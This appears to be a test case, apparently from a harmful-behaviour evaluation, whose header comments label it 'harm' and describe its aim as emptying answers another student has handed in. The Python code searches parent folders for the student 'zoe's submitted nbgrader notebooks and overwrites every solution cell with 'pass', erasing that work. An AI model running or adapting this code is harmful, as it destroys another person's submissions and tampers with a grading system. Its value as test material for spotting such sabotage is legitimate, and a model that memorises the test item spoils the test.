# tries: empty the answers that another student has handed in
# kind: harm
# honest: 6
# stock: succeeds last

# %% before loss_of
import json
from pathlib import Path

for folder in Path.cwd().parents:
    for path in folder.glob("submitted/zoe/*/welcome.ipynb"):
        notebook = json.loads(path.read_text())
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                cell["source"] = "pass"
        path.write_text(json.dumps(notebook))
